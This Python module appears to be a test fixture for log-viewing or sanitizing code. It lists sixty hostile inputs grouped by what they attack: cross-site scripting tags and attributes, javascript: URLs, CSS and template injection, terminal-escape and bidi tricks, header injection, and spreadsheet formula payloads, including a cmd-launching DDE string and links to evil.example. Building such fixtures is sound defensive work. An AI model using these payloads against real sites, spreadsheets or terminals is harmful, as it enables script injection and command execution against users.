"""Sixty texts that an attacker may put into a log to attack whoever reads it, by what they attack."""

from __future__ import annotations

ALERT = "alert(document.domain)"

SCRIPTS = [
    f"<script>{ALERT}</script>",
    f"</script><script>{ALERT}</script>",
    f"<ScRiPt\x09src=data:,{ALERT}></sCrIpT>",
    f"<script type=module>{ALERT}</script>",
    f"</title></textarea></style></noscript><script>{ALERT}</script>",
    f"</pre></template></table><svg onload={ALERT}>",
    f"<svg><script xlink:href='data:text/javascript,{ALERT}'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}>",
    f"<!--><img src=x onerror={ALERT}>-->",
    f"<![CDATA[<script>{ALERT}</script>]]>",
    f"<iframe srcdoc='<script>{ALERT}</script>'>",
    f"<object data='data:text/html,<script>{ALERT}</script>'>",
    f"<embed src='javascript:{ALERT}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALERT}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
]
ATTRIBUTES = [
    f'"><img src=x onerror={ALERT}>',
    f"'><img src=x onerror={ALERT}>",
    f'" autofocus onfocus="{ALERT}',
    f"' autofocus onfocus='{ALERT}",
    f"` autofocus onfocus={ALERT} `",
    f'x" onmouseover={ALERT} style="position:fixed;inset:0',
    f"&quot; onclick={ALERT} x=&quot;",
    f"&#34;&#62;&#60;img src=x onerror={ALERT}&#62;",
    f'" hx-on::load="{ALERT}',
    '" hx-get="//evil.example" hx-trigger="load" x="',
    f"<img src=x onerror={ALERT} //",
    f"<details open ontoggle={ALERT}>",
    f"<video><source onerror={ALERT}>",
]
ADDRESSES = [
    f"javascript:{ALERT}",
    f"JaVaScRiPt:\t{ALERT}",
    f"java\nscript:{ALERT}",
    f"\x01javascript:{ALERT}",
    f"data:text/html,<script>{ALERT}</script>",
    f"vbscript:{ALERT}",
    f"//evil.example/%0d%0aSet-Cookie:x=1?{ALERT}",
    f"[x](javascript:{ALERT})",
    f"![x](data:image/svg+xml,<svg onload={ALERT}>)",
    f"<javascript:{ALERT}>",
]
STYLES = [
    "</style><style>*{background:url(//evil.example)}",
    "expression(alert(1))",
    "x;background:url(javascript:alert(1))",
    '"><style>@import"//evil.example";</style>',
]
TEMPLATES = [
    "{{ 7*7 }}{{ config }}{{ ''.__class__ }}",
    "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> $(id) `id`",
    "%s%n %(name)s {0.__class__} {name}",
]
MARKS = [
    "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link",
    "\u202egnp.exe\u2066 \u2069",
    "\ufeff\u200b\u2028\u2029\u0085",
    "z\u0335\u0336\u0337\u0338a\u0301\u0301\u0301l\u0489",
    "\x00nul\x00",
    "\U000e0041\U000e0042 tags that nobody sees",
    "line one\r\nSet-Cookie: x=1\r\n\r\nline two",
]
FORMULAS = ['=HYPERLINK("//evil.example","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]
LONG = ["A" * 1_000_000]

PAYLOADS = [*SCRIPTS, *ATTRIBUTES, *ADDRESSES, *STYLES, *TEMPLATES, *MARKS, *FORMULAS, *LONG]

HOSTILE = [SCRIPTS[0], ATTRIBUTES[0], ATTRIBUTES[3], TEMPLATES[0], SCRIPTS[5], MARKS[1]]
"""A few of each kind, for tests that take time."""
